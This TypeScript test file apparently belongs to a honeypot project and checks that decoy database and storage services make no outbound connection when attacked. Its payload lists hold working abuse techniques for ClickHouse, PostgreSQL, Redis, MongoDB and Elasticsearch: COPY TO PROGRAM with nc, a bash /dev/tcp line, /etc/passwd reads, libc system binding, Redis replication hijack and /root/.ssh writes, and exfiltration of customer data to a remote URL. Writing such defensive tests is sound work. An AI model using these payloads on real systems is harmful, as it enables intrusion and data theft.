// Nothing that a visitor says makes a decoy connect anywhere: a listener stands by, and every way that we know of to make a store call it is tried.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { type AddressInfo, connect, createServer } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { HONEY, http, mongodb, NATIVE_HELLO, native, pg, pgStart, redis } from '../../testing/visits.ts';
import { DECOY_KINDS, type DecoyKind } from '../decoy.ts';
import type { Touch } from '../touch.ts';
import { startDecoy } from './start-decoy.ts';

const listener = createServer((socket) => socket.destroy());
let called = 0;
listener.on('connection', () => {
  called += 1;
});
before(async () => {
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
});
after(() => listener.close());

const SQL_OF_CLICKHOUSE = (to: string, host: string, port: number) => [
  `SELECT * FROM url('http://${to}/x', CSV, 'a String')`,
  `SELECT * FROM urlCluster('c', 'http://${to}/x', CSV, 'a String')`,
  `SELECT * FROM s3('http://${to}/b/k', 'CSV', 'a String')`,
  `SELECT * FROM remote('${to}', default.t)`,
  `SELECT * FROM cluster('c', default.t)`,
  `SELECT * FROM mysql('${to}', 'd', 't', 'u', 'p')`,
  `SELECT * FROM postgresql('${to}', 'd', 't', 'u', 'p')`,
  `SELECT * FROM mongodb('${to}', 'd', 't', 'u', 'p', 'a String')`,
  `SELECT * FROM redis('${to}', 'k', 'k String')`,
  `SELECT * FROM hdfs('hdfs://${to}/x', 'CSV', 'a String')`,
  `SELECT * FROM jdbc('jdbc:x://${to}', 'd', 't')`,
  `SELECT * FROM executable('x.sh', CSV, 'a String')`,
  "SELECT * FROM file('/etc/passwd', LineAsString, 'a String')",
  `INSERT INTO FUNCTION url('http://${to}/x', CSV, 'a String') SELECT email FROM customers`,
  `INSERT INTO FUNCTION remote('${to}', default.t) SELECT * FROM customers`,
  `INSERT INTO FUNCTION s3('http://${to}/b/k', 'CSV') SELECT * FROM customers`,
  `CREATE TABLE u (a String) ENGINE = URL('http://${to}/x', CSV)`,
  'SELECT * FROM u',
  `CREATE TABLE k (a String) ENGINE = Kafka('${to}', 't', 'g', 'CSV')`,
  `CREATE DATABASE m ENGINE = MySQL('${to}', 'd', 'u', 'p')`,
  `CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(HTTP(URL 'http://${to}/x' FORMAT CSV)) LIFETIME(1) LAYOUT(FLAT())`,
  `BACKUP TABLE customers TO S3('http://${to}/b', 'k', 's')`,
  `BACKUP DATABASE default TO Disk('x', 'y')`,
  `SYSTEM RELOAD DICTIONARIES`,
  `CREATE USER u IDENTIFIED WITH ldap SERVER '${host}:${port}'`,
];

const SQL_OF_POSTGRESQL = (host: string, port: number) => [
  `COPY customers TO PROGRAM 'nc ${host} ${port}'`,
  'CREATE TABLE p (a text)',
  `COPY p FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/${host}/${port}"'`,
  `CREATE EXTENSION dblink`,
  `SELECT * FROM dblink('host=${host} port=${port}', 'SELECT 1') AS t(a int)`,
  `SELECT dblink_connect('host=${host} port=${port}')`,
  `CREATE EXTENSION postgres_fdw`,
  `CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '${host}', port '${port}')`,
  `IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public`,
  `CREATE SUBSCRIPTION s CONNECTION 'host=${host} port=${port}' PUBLICATION p`,
  `ALTER SYSTEM SET archive_command = 'nc ${host} ${port}'`,
  `ALTER SYSTEM SET ssl_passphrase_command = 'nc ${host} ${port}'`,
  'SELECT pg_reload_conf()',
  `SELECT lo_import('/etc/passwd')`,
  `SELECT lo_export(1, '/tmp/x')`,
  `SELECT pg_read_file('/etc/passwd')`,
  `COPY p FROM '/etc/passwd'`,
  `CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT`,
  `SELECT sys('nc ${host} ${port}')`,
  `DO $$ import os; os.system('nc ${host} ${port}') $$ LANGUAGE plpython3u`,
  `CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u`,
];

const WAYS: Readonly<Record<DecoyKind, (host: string, port: number) => readonly Buffer[]>> = {
  clickhouse: (host, port) => SQL_OF_CLICKHOUSE(`${host}:${port}`, host, port).map((sql) => http('POST', '/', sql)),
  'clickhouse-native': (host, port) => [
    NATIVE_HELLO,
    ...SQL_OF_CLICKHOUSE(`${host}:${port}`, host, port).map((sql) => native(sql)),
  ],
  elasticsearch: (host, port) => [
    http(
      'POST',
      '/_reindex',
      `{"source":{"remote":{"host":"http://${host}:${port}"},"index":"a"},"dest":{"index":"b"}}`,
    ),
    http('PUT', '/_snapshot/r', `{"type":"url","settings":{"url":"http://${host}:${port}/"}}`),
    http('PUT', '/_snapshot/s', `{"type":"s3","settings":{"endpoint":"${host}:${port}","bucket":"b"}}`),
    http('PUT', '/_cluster/settings', `{"persistent":{"cluster.remote.x.seeds":["${host}:${port}"]}}`),
    http('PUT', '/_ccr/auto_follow/x', `{"remote_cluster":"${host}:${port}","leader_index_patterns":["*"]}`),
    http('PUT', '/_watcher/watch/w', `{"actions":{"h":{"webhook":{"host":"${host}","port":${port}}}}}`),
    http('POST', '/_search', '{"script_fields":{"x":{"script":"new Socket()"}}}'),
    http('GET', `http://${host}:${port}/`),
  ],
  redis: (host, port) => [
    redis('SLAVEOF', host, String(port)),
    redis('REPLICAOF', host, String(port)),
    redis('MIGRATE', host, String(port), 'customer:1001', '0', '1000'),
    redis('CLUSTER', 'MEET', host, String(port)),
    redis('FAILOVER', 'TO', host, String(port)),
    redis('SENTINEL', 'MONITOR', 'm', host, String(port), '1'),
    redis('MODULE', 'LOAD', '/tmp/exp.so', host, String(port)),
    redis('EVAL', `os.execute("nc ${host} ${port}")`, '0'),
    redis('CONFIG', 'SET', 'dir', '/root/.ssh'),
    redis('PSYNC', '?', '-1'),
    redis('DEBUG', 'RELOAD'),
  ],
  mongodb: (host, port) => [
    mongodb({ copydb: 1, fromhost: `${host}:${port}`, fromdb: 'a', todb: 'b' }, 'admin'),
    mongodb({ clone: `${host}:${port}` }, 'admin'),
    mongodb({ cloneCollection: 'a.b', from: `${host}:${port}` }, 'admin'),
    mongodb({ replSetInitiate: { _id: 'r', members: [{ _id: 0, host: `${host}:${port}` }] } }, 'admin'),
    mongodb({ addShard: `${host}:${port}` }, 'admin'),
    mongodb({ eval: `connect('${host}:${port}')` }, 'admin'),
    mongodb({ find: 'customers', filter: { $where: `connect('${host}:${port}')` } }),
    mongodb({ mapReduce: 'customers', map: 'function(){}', reduce: 'function(){}', out: 'x' }),
    mongodb({ aggregate: 'customers', pipeline: [{ $out: { db: 'x', coll: 'y' } }], cursor: {} }),
    mongodb({ saslStart: 1, mechanism: 'GSSAPI', payload: `${host}:${port}` }, 'admin'),
  ],
  postgresql: (host, port) => [pgStart(), ...SQL_OF_POSTGRESQL(host, port).map((sql) => pg('Q', sql))],
  'http-bucket': (host, port) => [
    http('PUT', '/backups?notification', `<a><Queue>http://${host}:${port}/</Queue></a>`),
    http('PUT', '/backups?replication', `<a><Destination>http://${host}:${port}/</Destination></a>`),
    http('GET', `http://${host}:${port}/`),
    http('POST', '/backups/x?select&select-type=2', `<a>http://${host}:${port}/</a>`),
  ],
};

async function told(kind: DecoyKind, pieces: readonly Buffer[]): Promise<Touch[]> {
  let drawn = 0;
  const random = (count: number) => new Uint8Array(count).fill(drawn++);
  const decoy = await startDecoy(kind, { honey: HONEY, now: Date.now, random });
  const socket = connect(decoy.port, '127.0.0.1').on('error', () => {});
  await once(socket, 'connect');
  socket.resume();
  socket.end(Buffer.concat(pieces));
  await once(socket, 'close');
  await decoy.close();
  const touches: Touch[] = [];
  for await (const touch of decoy.touches) touches.push(touch);
  return touches;
}

describe('a decoy that is told to connect elsewhere', () => {
  it('would be seen by the listener', async () => {
    const socket = connect((listener.address() as AddressInfo).port, '127.0.0.1');
    await once(socket, 'close');
    assert.equal(called, 1);
    called = 0;
  });

  for (const kind of DECOY_KINDS) {
    it(`of ${kind} connects nowhere, and tells of it`, async () => {
      const { port } = listener.address() as AddressInfo;
      const ways = WAYS[kind]('127.0.0.1', port);
      const touches = await told(kind, ways);
      assert.equal(called, 0);
      assert.ok(touches.length > ways.length / 2, `${touches.length} touches of ${ways.length} ways`);
      if (kind !== 'http-bucket') assert.ok(touches.some(({ intent }) => intent === 'reach'));
    });
  }
});
